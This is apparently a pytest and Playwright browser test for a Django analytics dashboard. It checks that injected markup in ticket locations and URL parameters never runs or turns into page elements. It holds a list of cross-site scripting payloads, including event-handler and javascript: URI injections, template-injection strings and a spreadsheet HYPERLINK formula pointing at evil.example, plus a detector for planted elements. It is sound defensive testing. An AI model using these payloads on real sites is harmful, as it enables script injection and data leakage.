"""Scripts and markup in every location and in the address: nothing of it runs, loads or becomes an element."""

from collections.abc import Callable
from urllib.parse import quote

import pytest
from playwright.sync_api import Page

from analytics.services import ANALYSES
from analytics.tests.browsers import is_drawn, served
from analytics.tests.tickets_server import TicketsServer

pytestmark = [pytest.mark.browser, pytest.mark.django_db(transaction=True)]

PAYLOADS = [
    "<script class=planted>alert(1)</script>",
    "</script><script class=planted>alert(2)</script>",
    '"><script class=planted>alert(3)</script>',
    "<img src=x onerror=alert(4) class=planted>",
    '" onmouseover="alert(5)" autofocus onfocus="alert(5)" class="planted',
    "' onmouseover='alert(6)' class='planted",
    "<svg onload=alert(7) class=planted>",
    '<a href="javascript:alert(8)" class=planted>click me</a>',
    "javascript:alert(9)",
    "</template><iframe srcdoc='<script>alert(10)</script>' class=planted></iframe>",
    "<!-- <script class=planted>",
    "\\u003cscript\\u003ealert(12)\\u003c/script\\u003e",
    "${alert(13)} {{constructor.constructor('alert(13)')()}}",
    '=HYPERLINK("https://evil.example/?"&A1, "click me")',
    "<style class=planted>body { display: none }</style>",
]
REPORT_VIOLATIONS = """
addEventListener("securitypolicyviolation", (event) => console.error(`broken: ${event.violatedDirective}`));
"""
PLANTED = """() => [...document.querySelectorAll("*")].filter((one) =>
  one.classList.contains("planted") || [...one.attributes].some(({name, value}) =>
    /^on/.test(name) || (/^(href|src|action)$/.test(name) && /^\\s*javascript:/i.test(value)))
).map((one) => one.outerHTML)"""


@pytest.fixture
def watched(open_page: Callable[..., Page], tickets_server: TicketsServer) -> Page:
    tickets_server.columns += ["location", "answered_at", "assigned_category"]
    for number, payload in enumerate(PAYLOADS, start=10):
        opened_at = f"2026-01-{number:02}T08:00:00Z"
        tickets_server.tell(number, opened_at=opened_at, assigned_category="technical_it", location=payload[:120])
    page = open_page("/", served)
    page.context.add_init_script(REPORT_VIOLATIONS)
    page.on("dialog", lambda dialog: (page.complaints.append(f"a dialog: {dialog.message}"), dialog.dismiss()))
    page.on("console", lambda said: page.complaints.append(said.text) if is_complaint(page, said) else None)
    return page


def is_complaint(page: Page, said: object) -> bool:
    """That the page itself has the status of an error is none."""
    is_own_status = said.text.startswith("Failed to load resource") and said.location["url"] == page.url
    return said.type in ("error", "warning") and not is_own_status


def test_on_every_page(watched: Page, live_server) -> None:
    echoes = [f"location={quote(payload)}" for payload in PAYLOADS[:8]]
    everything = "&".join(f"{name}={quote(PAYLOADS[2])}" for name in ("last", "unit", "from", "to", "category", "x"))
    paths = ["/", *(f"/?analysis={one.slug}&{echoes[place % 8]}" for place, one in enumerate(ANALYSES))]
    paths += [f"/?analysis={one.slug}&{everything}" for one in ANALYSES]
    paths += [f"/?analysis={quote(PAYLOADS[2])}", f"/nothing/{quote(PAYLOADS[3])}/", "/api/docs/"]
    paths += [f"/api/v1/{one}format=api" for one in ("?", "analyses/?", f"age/?{echoes[1]}&", f"age/?{everything}&")]

    for path in paths:
        watched.goto(f"{live_server.url}{path}", wait_until="load")
        watched.evaluate("new Promise((done) => requestAnimationFrame(() => setTimeout(done)))")
        assert watched.evaluate(PLANTED) == [], path
        assert watched.complaints == [], path


def test_a_chart_is_drawn_from_them_all_the_same(watched: Page, live_server) -> None:
    watched.goto(f"{live_server.url}/?analysis=age&location={quote('alert(')}")
    is_drawn(watched)
    assert "12" in watched.locator("tbody").inner_text()
